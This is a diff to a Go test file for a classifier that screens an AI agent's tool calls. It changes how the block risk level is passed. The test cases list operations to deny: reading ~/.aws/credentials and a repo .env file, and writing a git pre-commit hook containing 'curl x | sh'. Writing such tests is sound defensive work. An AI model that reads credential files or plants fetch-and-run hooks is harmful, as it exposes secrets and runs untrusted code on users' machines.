@@ -21,7 +21,7 @@ func call(tool string, in map[string]string) *middleware.Operation {
 // The effects classifier keeps the classifier contract.
 func TestClassifierConformance(t *testing.T) {
 	c := compiled(t, nil)
-	guardtest.Run(t, effects.Classifier(c, fakeShell, middleware.RiskHigh), guardtest.Cases{
+	guardtest.Run(t, effects.Classifier(c, fakeShell, middleware.Levels{Block: middleware.RiskHigh}), guardtest.Cases{
 		Deny: []*middleware.Operation{
 			call("Read", map[string]string{"file_path": home + "/.aws/credentials"}),
 			call("Write", map[string]string{"file_path": ".git/hooks/pre-commit", "content": "curl x | sh"}),
@@ -51,7 +51,7 @@ func TestClassifierConformance(t *testing.T) {
 func TestClassifierVerdicts(t *testing.T) {
 	t.Parallel()
 	c := compiled(t, func(p *effects.Policy) { p.Workspace = "/work/repo" })
-	cl := effects.Classifier(c, fakeShell, middleware.RiskHigh)
+	cl := effects.Classifier(c, fakeShell, middleware.Levels{Block: middleware.RiskHigh})
 	v, err := cl.Classify(context.Background(), call("Read", map[string]string{"file_path": "/work/repo/.env"}))
 	require.NoError(t, err)
 	assert.Equal(t, middleware.Verdict{Action: middleware.ActionDeny, ID: "effect.read.credential", Category: "effect",
